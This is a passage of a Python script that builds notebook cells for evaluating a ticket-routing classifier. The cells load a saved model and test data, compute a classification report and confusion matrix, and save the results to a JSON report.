    return {"report": report, "confusion": matrix.tolist()}


def save(result, path):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(result, indent=2))


if __name__ == "__main__":
    rng = np.random.default_rng(0)
    y = rng.integers(0, 3, 200)
    print(json.dumps(evaluate(y, y, [0, 1, 2])["report"]["macro avg"], indent=2))
"""),
        code("""
!python eval_helpers.py
"""),
        code("""
%load_ext autoreload
%autoreload 2
import joblib, pandas as pd
from eval_helpers import evaluate, save
model = joblib.load("models/ticket_router_v2.joblib")
test = pd.read_parquet("data/ticket_router_test.parquet")
"""),
        code("""
%%time
pred = model.predict(test["text"])
result = evaluate(test["queue"], pred, sorted(test["queue"].unique()))
pd.DataFrame(result["report"]).T.round(3)
"""),
        code("""
save(result, "reports/ticket_router_v2_eval.json")
!ls -la reports/
"""),
    ]


if __name__ == "__main__":
    NOTEBOOKS.main()
